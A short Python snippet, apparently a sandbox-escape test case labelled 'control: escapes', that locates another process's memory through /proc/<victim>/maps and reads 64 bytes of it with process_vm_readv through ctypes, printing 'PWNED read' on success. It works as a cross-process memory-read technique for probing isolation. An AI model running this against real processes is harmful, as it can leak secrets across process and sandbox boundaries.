# Reads the memory of a process outside by a system call.
# control: escapes
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
start = int(open(f"/proc/{victim}/maps").readline().split("-")[0], 16)
buffer = ctypes.create_string_buffer(64)
local = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), 64)
remote = (ctypes.c_ulong * 2)(start, 64)
if libc.process_vm_readv(int(victim), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) == 64:
    print("PWNED read")
